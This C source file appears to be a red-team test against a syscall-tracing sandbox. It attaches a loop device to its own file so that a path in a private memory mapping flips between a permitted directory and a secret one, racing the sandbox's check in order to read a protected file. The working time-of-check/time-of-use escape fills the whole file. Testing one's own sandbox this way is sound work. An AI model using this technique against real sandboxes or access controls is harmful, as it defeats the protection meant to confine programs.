/* loop_flip.c DECOY [ROUNDS]: open a path the program keeps in a clean page of a MAP_PRIVATE
 * mapping of its own file, which a loop device it attached to that file rewrites behind it
 * (red team 54).
 *
 * A loop device is a writer of its backing file that is no task: a write to /dev/loopN goes
 * to the device's page cache, and reaches the file only when those pages are written back --
 * by the loop driver's worker, a kernel thread, whenever the writeback runs (here started by
 * sync_file_range(SYNC_FILE_RANGE_WRITE), which does not wait for it).  A clean page of a
 * MAP_PRIVATE mapping of the file shows the file's page cache, so the bytes the program reads
 * there change while it runs no instruction -- as a shared mapping's do.  The program is one
 * task, alone: its path arguments were not held (nothing else wrote its memory, as far as the
 * engine knew), the tracer read the path at the stop and the kernel read it again.  Now the
 * attach makes every address space of the tree count as written anywhere: they are held.
 *
 * The backing file work/flip.img holds DECOY (".../pubd/secret.txt", permitted) at offset 0;
 * the program maps it MAP_PRIVATE and opens that mapped string, while the device turns "pubd"
 * into "secd" (the secret's directory, a name of the same length) and back, ROUNDS times
 * (default 300; a flip not seen in 0.25 s is given up).  Natively the open reaches the
 * secret once the worker wrote the page; under systrace an open decided on "pubd" that the
 * kernel runs on "secd" reached it too (main 67ace9b, both loops).
 * ESCAPED when an open gave the secret; BLOCKED otherwise (counts of what the opens got).
 * Root (the loop devices); SKIPPED without a free loop device.
 */
#include "attack.h"

#include <linux/loop.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

static void put(int dev, const char *word, off_t at) {
    if (pwrite(dev, word, 4, at) != 4)
        blocked("pwrite /dev/loop: %s", ename(errno));
    /* start the device's writeback; the loop worker writes the file later */
    if (sync_file_range(dev, 0, 0, SYNC_FILE_RANGE_WRITE) < 0)
        blocked("sync_file_range: %s", ename(errno));
}

int main(int argc, char **argv) {
    if (argc < 2)
        usage("loop_flip DECOY [ROUNDS]");
    const char *decoy = argv[1];
    int rounds = argc > 2 ? atoi(argv[2]) : 300;
    const char *word = strstr(decoy, "/pubd/");
    if (!word)
        blocked("DECOY has no /pubd/");
    off_t at = (off_t)(word - decoy) + 1;
    char image[4096] = {0};
    snprintf(image, sizeof image, "%s", decoy);
    int file = open("work/flip.img", O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (file < 0 || write(file, image, sizeof image) != (ssize_t)sizeof image)
        blocked("work/flip.img: %s", ename(errno));
    int control = open("/dev/loop-control", O_RDWR | O_CLOEXEC);
    if (control < 0)
        skipped("/dev/loop-control: %s", ename(errno));
    int n = ioctl(control, LOOP_CTL_GET_FREE);
    if (n < 0)
        skipped("LOOP_CTL_GET_FREE: %s", ename(errno));
    char name[64];
    snprintf(name, sizeof name, "/dev/loop%d", n);
    int dev = open(name, O_RDWR | O_CLOEXEC);
    if (dev < 0)
        skipped("%s: %s", name, ename(errno));
    if (ioctl(dev, LOOP_SET_FD, file) < 0) {
        int err = errno;
        if (err == EBUSY)
            skipped("LOOP_SET_FD %s: %s", name, ename(err));
        blocked("LOOP_SET_FD %s: %s", name, ename(err));
    }
    /* (detached at the last close, should the run be killed before LOOP_CLR_FD) */
    struct loop_info64 info = {.lo_flags = LO_FLAGS_AUTOCLEAR};
    ioctl(dev, LOOP_SET_STATUS64, &info);
    const char *path = mmap(NULL, sizeof image, PROT_READ, MAP_PRIVATE, file, 0);
    if (path == MAP_FAILED) {
        ioctl(dev, LOOP_CLR_FD, 0);
        blocked("mmap: %s", ename(errno));
    }
    long got_secret = 0, got_decoy = 0, refused = 0, other = 0;
    int r;
    for (r = 0; r < rounds && !got_secret; r++) {
        for (int flip = 0; flip < 2 && !got_secret; flip++) {
            put(dev, flip ? "pubd" : "secd", at);
            const char *want = flip ? "pubd" : "secd";
            double until = now_s() + 0.25;
            /* open the mapped path until the worker's write shows in the page */
            while (memcmp(path + at, want, 4) != 0 && now_s() < until) {
                int fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd >= 0) {
                    if (is_secret_fd(fd))
                        got_secret++;
                    else
                        got_decoy++;
                    close(fd);
                } else if (errno == EACCES || errno == EPERM) {
                    refused++;
                } else {
                    other++;
                }
            }
            /* natively, an open of the page as it is now: the secret once it shows "secd" */
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                if (is_secret_fd(fd))
                    got_secret++;
                close(fd);
            }
        }
    }
    ioctl(dev, LOOP_CLR_FD, 0);
    if (got_secret)
        escaped("an open of the mapped path gave the secret in round %d (%ld decoy, %ld "
                "refused, %ld other)", r, got_decoy, refused, other);
    blocked("no open gave the secret in %d rounds (%ld decoy, %ld refused, %ld other)", r,
            got_decoy, refused, other);
}
